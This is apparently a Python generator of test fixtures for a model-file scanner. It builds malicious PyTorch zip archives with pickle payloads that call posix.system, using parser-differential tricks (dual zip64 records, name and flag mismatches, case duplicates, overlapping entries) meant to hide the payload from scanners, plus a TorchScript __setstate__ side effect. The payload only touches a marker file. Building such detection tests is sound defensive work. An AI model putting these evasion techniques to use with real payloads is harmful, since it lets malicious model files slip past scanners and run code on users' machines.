#!/usr/bin/python3
"""Generate testdata/attacks/zip/: torch zip files whose structure lets one reader see a
different archive from another (or that hand the file to TorchScript), plus labels.jsonl.

Run from the repository root:

    /usr/bin/python3 testdata/gen/gen_zip_attacks.py           # write the files
    /usr/bin/python3 testdata/gen/gen_zip_attacks.py --check   # prove each payload runs

Every payload only creates the file "embtool-zip-marker" in the CURRENT directory (a shell
`touch`, or torch.from_file from TorchScript). Generation never loads anything. --check loads
each file with torch.load (weights_only=False, the 1.13 default) in one child process, from a
fresh temporary working folder per file, looks for the marker there, and prints a table
class / file / torch ran payload. It exits 1 when a file labelled torch_runs=true did not run
its payload (the label would be a lie) and 0 otherwise.

The archives are laid out exactly as torch.save lays them out (stored entries, local flags
0x0808 with zeroed CRC and sizes and a data descriptor after the data, 'FB' padding extras
aligning data to 64 bytes, zip64 end record and locator), then one structure is bent.
"""

import io
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import embgen as E  # noqa: E402

OUT = os.path.join(E.TESTDATA, "attacks", "zip")
MARKER = "embtool-zip-marker"

SIG_L, SIG_C, SIG_E = 0x04034B50, 0x02014B50, 0x06054B50
SIG_Z64, SIG_LOC, SIG_DD = 0x06064B50, 0x07064B50, 0x08074B50


def payload_pickle(cmd="touch " + MARKER):
    """posix.system(cmd) at protocol 2, as pickle.dumps(os.system-call) writes it on Linux."""
    c = cmd.encode()
    return (b"\x80\x02cposix\nsystem\nq\x00X" + struct.pack("<I", len(c)) + c +
            b"q\x01\x85q\x02Rq\x03.")


def benign_records():
    """data.pkl and data/0 of a real torch.save of a 2x768 A1111 embedding."""
    import torch
    g = torch.Generator()
    g.manual_seed(9)
    obj = {"string_to_token": {"*": 265}, "string_to_param": {"*": torch.randn(2, 768, generator=g)},
           "name": "benign", "step": 1}
    buf = io.BytesIO()
    torch.save(obj, buf)
    z = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    return z.read("archive/data.pkl"), z.read("archive/data/0")


class Z:
    """A torch-style zip builder whose every structure can be bent."""

    def __init__(self):
        self.b = bytearray()

    def raw(self, data):
        self.b += data

    def entry(self, name, data, flags=0x0808, lflags=None, lname=None, method=0, align=True):
        """Append a local header, the data and (flag bit 3) a data descriptor; return the
        directory fields of the entry."""
        name = name.encode() if isinstance(name, str) else name
        lname = name if lname is None else (lname.encode() if isinstance(lname, str) else lname)
        off = len(self.b)
        crc = zlib.crc32(data) & 0xFFFFFFFF
        comp = data
        if method == 8:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            comp = c.compress(data) + c.flush()
        extra = b""
        if align:
            pad = (-(off + 30 + len(lname) + 4)) % 64
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        zero = flags & 8
        self.b += struct.pack("<IHHHHHIIIHH", SIG_L, 0, flags if lflags is None else lflags, method,
                              0, 0, 0 if zero else crc, 0 if zero else len(comp),
                              0 if zero else len(data), len(lname), len(extra)) + lname + extra + comp
        if zero:
            self.b += struct.pack("<IIII", SIG_DD, crc, len(comp), len(data))
        return {"name": name, "off": off, "data": off + 30 + len(lname) + len(extra), "crc": crc, "csize": len(comp), "usize": len(data),
                "flags": flags, "method": method}

    @staticmethod
    def central(ents):
        return b"".join(struct.pack("<IHHHHHHIIIHHHHHII", SIG_C, 0, 0, e["flags"], e["method"], 0, 0,
                                    e["crc"], e["csize"], e["usize"], len(e["name"]), 0, 0, 0, 0, 0,
                                    e["off"]) + e["name"] for e in ents)

    @staticmethod
    def eocd(n, size, off, comment=b"", comment_len=None):
        cl = len(comment) if comment_len is None else comment_len
        return struct.pack("<IHHHHIIH", SIG_E, 0, 0, n, n, size, off, cl) + comment

    @staticmethod
    def zip64(n, size, off):
        return struct.pack("<IQHHIIQQQQ", SIG_Z64, 44, 0x031E, 0x2D, 0, 0, n, n, size, off)

    @staticmethod
    def locator(off):
        return struct.pack("<IIQI", SIG_LOC, 0, off, 1)

    def finish(self, ents, n=None, end_n=None, gap=b""):
        """Central directory, zip64 end record, locator and end record, as torch writes them;
        n is the entry count both records give (default: len(ents)), end_n the end record's
        if it differs, gap bytes written between the directory and the zip64 record."""
        cd_off = len(self.b)
        cd = self.central(ents)
        self.b += cd + gap
        z_off = len(self.b)
        n = len(ents) if n is None else n
        end_n = n if end_n is None else end_n
        self.b += self.zip64(n, len(cd), cd_off) + self.locator(z_off) + self.eocd(end_n, len(cd), cd_off)
        return bytes(self.b)


def torch_like(pkl, store, prefix="archive"):
    """The three records of a torch.save file; returns (builder, entries)."""
    z = Z()
    ents = [z.entry(prefix + "/data.pkl", pkl), z.entry(prefix + "/data/0", store),
            z.entry(prefix + "/version", b"3\n")]
    return z, ents


def torch_like_with_benign_dup(pkl, store, benign):
    """torch_like, then a second, benign archive/data.pkl after the three records."""
    z, ents = torch_like(pkl, store)
    return z, ents + [z.entry("archive/data.pkl", benign)]


# ---------------------------------------------------------------------------------------------
# the attacks


def build(benign, store):
    evil = payload_pickle()
    files = []

    def add(fname, cls, data, reason, runs, what, reason_any=None):
        files.append({"file": fname, "class": cls, "data": data, "reason_contains": reason,
                      "reason_any": [reason] + (reason_any or []), "torch_runs": runs, "what": what})

    # 1. zip64 two views (the sample of issue 9): the ordinary end record (unsaturated) names the
    # benign directory, which archive/zip reads; the zip64 record before it names a second
    # directory, placed before the benign one, whose data.pkl is the payload: miniz follows it.
    z = Z()
    good = [z.entry("archive/data.pkl", benign), z.entry("archive/data/0", store),
            z.entry("archive/version", b"3\n")]
    bad = z.entry("archive/data.pkl", evil)
    cd2_off = len(z.b)
    cd2 = Z.central([bad, good[1], good[2]])
    z.raw(cd2)
    cd1_off = len(z.b)
    cd1 = Z.central(good)
    z.raw(cd1)
    z64 = len(z.b)
    z.raw(Z.zip64(3, len(cd2), cd2_off) + Z.locator(z64) + Z.eocd(3, len(cd1), cd1_off))
    add("zip64_two_views.pt", "zip64 two views", bytes(z.b), "ambiguous", True,
        "zip64 record and locator before an unsaturated end record: the end record names a benign "
        "directory (archive/zip's view: a clean 2x768 embedding), the zip64 record a second one "
        "whose data.pkl runs posix.system (miniz's view)", ["zip64"])

    # 2. zip64 locator pointing elsewhere than right before itself: miniz follows the locator
    # (evil directory), Python's zipfile reads the zip64 record just before the locator (benign).
    z = Z()
    good = [z.entry("archive/data.pkl", benign), z.entry("archive/data/0", store),
            z.entry("archive/version", b"3\n")]
    bad = z.entry("archive/data.pkl", evil)
    cd2_off = len(z.b)
    cd2 = Z.central([bad, good[1], good[2]])
    z.raw(cd2)
    far = len(z.b)
    z.raw(Z.zip64(3, len(cd2), cd2_off))
    cd1_off = len(z.b)
    cd1 = Z.central(good)
    z.raw(cd1)
    z.raw(Z.zip64(3, len(cd1), cd1_off) + Z.locator(far) + Z.eocd(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF))
    add("zip64_locator_elsewhere.pt", "zip64 two views", bytes(z.b), "ambiguous", True,
        "two zip64 end records: the locator points to the first (evil directory, miniz's view), "
        "Python's zipfile reads the one right before the locator (benign directory)", ["zip64"])

    # 3. zip64 disagreeing fields: the zip64 record counts 3 entries, the unsaturated end record
    # 4. miniz reads 3 (the payload data.pkl first); zipfile reads the whole directory size and
    # maps data.pkl to the 4th entry (benign); archive/zip reads 4.
    z, ents = torch_like_with_benign_dup(evil, store, benign)
    add("zip64_disagreeing_fields.pt", "zip64 disagreeing fields", z.finish(ents, n=3, end_n=4), "ambiguous", True,
        "zip64 record says 3 entries, the unsaturated end record 4: miniz reads the payload "
        "data.pkl, zipfile and archive/zip also a benign archive/data.pkl after it", ["zip64"])

    # 4. two end records: the first (benign directory) is what archive/zip picks (the second
    # claims a comment longer than the file); miniz and zipfile take the last signature.
    z = Z()
    good = [z.entry("archive/data.pkl", benign), z.entry("archive/data/0", store),
            z.entry("archive/version", b"3\n")]
    bad = z.entry("archive/data.pkl", evil)
    cd1_off = len(z.b)
    cd1 = Z.central(good)
    z.raw(cd1)
    cd2_off = len(z.b) + 22
    cd2 = Z.central([bad, good[1], good[2]])
    tail = cd2 + Z.eocd(3, len(cd2), cd2_off, comment=b"\0\0\0\0", comment_len=0x4000)
    z.raw(Z.eocd(3, len(cd1), cd1_off, comment=tail))
    add("two_end_records.pt", "two end records", bytes(z.b), "ambiguous", True,
        "a second end record inside the first one's comment, pointing at a second directory "
        "whose data.pkl runs posix.system", ["end"])

    # 5. local/central name mismatch (picklescan CVE-2025-1944 style): zipfile refuses to read
    # the record, miniz reads it by the directory's name.
    z = Z()
    ents = [z.entry("archive/data.pkl", evil, lname="archive/data.txt"), z.entry("archive/data/0", store),
            z.entry("archive/version", b"3\n")]
    add("name_mismatch.pt", "local/central name mismatch", z.finish(ents), "ambiguous", True,
        "data.pkl's local header names archive/data.txt: Python's zipfile raises BadZipFile, so "
        "scanners built on it see nothing; torch reads by the directory", ["name"])

    # 6. local flags differ (picklescan CVE-2025-1945 style): bit 6 (strong encryption) only in
    # the local header makes zipfile raise NotImplementedError; miniz ignores local flags.
    z = Z()
    ents = [z.entry("archive/data.pkl", evil, lflags=0x0848), z.entry("archive/data/0", store),
            z.entry("archive/version", b"3\n")]
    add("local_flags_differ.pt", "local/central flags mismatch", z.finish(ents), "ambiguous", True,
        "local header of data.pkl has flag bit 6 (strong encryption) that the directory lacks: "
        "miniz and zipfile go by the directory, a reader of local headers sees an encrypted entry",
        ["flags"])

    # 6b. version needed above 6.3 in the directory: Python's zipfile refuses the whole archive
    # (NotImplementedError), so scanners built on it see nothing; miniz ignores the field.
    z = Z()
    ents = [z.entry("archive/data.pkl", evil), z.entry("archive/data/0", store),
            z.entry("archive/version", b"3\n")]
    b = bytearray(z.finish(ents))
    b[b.find(b"PK\x01\x02") + 6] = 64
    add("version_needed_64.pt", "version needed above 6.3", bytes(b), "ambiguous", True,
        "data.pkl's directory entry needs zip version 6.4: Python's zipfile refuses the archive, "
        "torch loads it", ["version"])

    # 7. case duplicate: data.pkl (benign) and DATA.PKL (evil); miniz's lookup ignores case.
    for order, fname in ((0, "case_dup_data_pkl.pt"), (1, "case_dup_data_pkl_rev.pt")):
        z = Z()
        a = z.entry("archive/data.pkl", benign)
        b = z.entry("archive/DATA.PKL", evil)
        rest = [z.entry("archive/data/0", store), z.entry("archive/version", b"3\n")]
        ents = [a, b] + rest if order == 0 else [b, a] + rest
        add(fname, "case-duplicate data.pkl", z.finish(ents), "ambiguous", None,
            "archive/data.pkl (benign) and archive/DATA.PKL (posix.system): torch's "
            "case-insensitive binary search may pick either", ["case"])

    # 8. only DATA.PKL: a scanner that looks for '.pkl' names misses it, torch finds it.
    z = Z()
    ents = [z.entry("archive/DATA.PKL", evil), z.entry("archive/data/0", store),
            z.entry("archive/version", b"3\n")]
    add("upper_case_data_pkl.pt", "case-insensitive lookup", z.finish(ents), "posix.system", True,
        "the only pickle is archive/DATA.PKL: torch's lookup of data.pkl ignores case")

    # 9. NUL in a name: torch reads names as C strings.
    z = Z()
    ents = [z.entry("archive/data.pkl", evil), z.entry("archive/data/0", store),
            z.entry(b"archive/data.pkl\0.txt", b"x"), z.entry("archive/version", b"3\n")]
    add("nul_in_name.pt", "NUL in name", z.finish(ents), "ambiguous", True,
        "an entry named 'archive/data.pkl\\0.txt': torch's get_all_records lists it as "
        "data.pkl (C string), other readers as a .txt", ["NUL"])

    # 10. unreferenced local header: a benign data.pkl that forward-walking readers see first,
    # the directory points at the evil one.
    z = Z()
    z.entry("archive/data.pkl", benign)
    ents = [z.entry("archive/data.pkl", evil), z.entry("archive/data/0", store),
            z.entry("archive/version", b"3\n")]
    add("unreferenced_local_header.pt", "unreferenced local header", z.finish(ents), "ambiguous", True,
        "a local header for a benign archive/data.pkl that the directory does not reference, "
        "before the referenced evil one", ["bytes"])

    # 11. overlapping entries: the evil data.pkl lives inside data/0's data.
    z = Z()
    inner = Z()
    inner.b += b"\0" * 64
    bad = inner.entry("archive/data.pkl", evil, flags=0x0800, align=False)
    blob = bytes(inner.b) + b"\0" * 64
    blob += b"\0" * ((-len(blob)) % 4)
    first = z.entry("archive/data/0", blob)
    bad = dict(bad, off=first["data"] + 64)
    ents = [bad, first, z.entry("archive/version", b"3\n")]
    add("overlapping_entries.pt", "overlapping entries", z.finish(ents), "ambiguous", True,
        "data.pkl's local header lies inside the data of archive/data/0", ["overlap"])

    # 12. junk between entries.
    z = Z()
    e1 = z.entry("archive/data.pkl", evil)
    z.raw(b"\x80\x02N." + b"\0" * 60)
    ents = [e1, z.entry("archive/data/0", store), z.entry("archive/version", b"3\n")]
    add("junk_between_entries.pt", "junk between entries", z.finish(ents), "ambiguous", True,
        "64 bytes between data.pkl's descriptor and the next local header", ["bytes"])

    # 13. trailing bytes after the end record (no comment length for them).
    z, ents = torch_like(evil, store)
    add("trailing_bytes.pt", "trailing bytes", z.finish(ents) + b"\x80\x02N." * 4, "ambiguous", True,
        "16 bytes after the end record that its comment length does not cover", ["comment", "end"])

    # 14. directory not ending at the end records: zipfile shifts every offset (concat).
    z, ents = torch_like(evil, store)
    add("directory_gap.pt", "directory not at end record", z.finish(ents, gap=b"\0" * 32), "ambiguous", True,
        "32 bytes between the central directory and the zip64 record: Python's zipfile shifts "
        "every offset by 32, miniz does not", ["central directory"])

    # 15. directory count shorter than its size: miniz reads 3 entries, zipfile 4, and zipfile
    # maps data.pkl to the last one (benign).
    z, ents = torch_like_with_benign_dup(evil, store, benign)
    add("directory_count_short.pt", "directory count vs size", z.finish(ents, n=3), "ambiguous", True,
        "directory of 4 entries counted as 3: miniz reads the evil data.pkl, zipfile maps "
        "data.pkl to the benign 4th", ["entries"])

    # 16. TorchScript archive: torch.load hands it to torch.jit.load, whose __setstate__ runs.
    add("torchscript_constants.pt", "TorchScript archive", torchscript_bytes(), "TorchScript", True,
        "a torch.jit.save archive (constants.pkl, code/): torch.load dispatches to torch.jit.load, "
        "which runs the module's TorchScript __setstate__ (here torch.from_file creating a file)")
    return files


def torchscript_bytes():
    import torch

    class M(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.w = torch.zeros(2)

        def forward(self, x):
            return x + self.w

        @torch.jit.export
        def __getstate__(self):
            return (self.w, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]):
            f = torch.from_file("embtool-zip-marker", True, 1)
            self.w = state[0] + f.sum() * 0
            self.training = state[1]

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(M()), buf)
    return buf.getvalue()


def generate():
    benign, store = benign_records()
    files = build(benign, store)
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    labels = []
    for f in files:
        data = f.pop("data")
        E.write_bytes(os.path.join(OUT, f["file"]), data)
        labels.append(dict(f, verdict="unsafe", size=len(data), sha256=E.sha256(data)))
        print("%-32s %6d  %s" % (f["file"], len(data), f["class"]))
    E.write_jsonl(os.path.join(OUT, "labels.jsonl"), labels)


LOAD = """
import json, os, sys, tempfile, warnings
warnings.simplefilter("ignore")
import torch
for path in sys.argv[1:]:
    with tempfile.TemporaryDirectory(prefix="embtool-zipcheck-") as tmp:
        os.chdir(tmp)
        note = "ok"
        try:
            torch.load(path)
        except BaseException as e:
            note = (type(e).__name__ + ": " + (str(e).splitlines() or [""])[0])[:100]
        ran = os.path.exists(os.path.join(tmp, %r))
        os.chdir("/")
    print(json.dumps({"path": path, "ran": ran, "note": note}), flush=True)
""" % MARKER


def check():
    """Load every file with torch.load in one child process, each from a fresh temporary
    working folder, and report whether the payload created its marker there."""
    labels = [json.loads(line) for line in open(os.path.join(OUT, "labels.jsonl"))]
    paths = [os.path.abspath(os.path.join(OUT, lab["file"])) for lab in labels]
    out = subprocess.run([sys.executable, "-c", LOAD] + paths, capture_output=True, text=True,
                         timeout=600)
    got = {}
    for line in out.stdout.splitlines():
        r = json.loads(line)
        got[r["path"]] = r
    bad = 0
    print("%-30s %-32s %-5s %s" % ("class", "file", "runs", "torch.load says"))
    for lab, path in zip(labels, paths):
        r = got.get(path, {"ran": False, "note": "no result (child died: %s)" % out.stderr[-200:]})
        print("%-30s %-32s %-5s %s" % (lab["class"], lab["file"], "yes" if r["ran"] else "no",
                                       r["note"][:60]))
        if lab["torch_runs"] is True and not r["ran"]:
            bad += 1
    ran = sum(1 for r in got.values() if r["ran"])
    print("torch.load ran the payload of %d of %d files" % (ran, len(labels)))
    if bad:
        print("%d file(s) labelled torch_runs did not run their payload" % bad)
        return 1
    return 0


if __name__ == "__main__":
    if "--check" in sys.argv[1:]:
        sys.exit(check())
    generate()
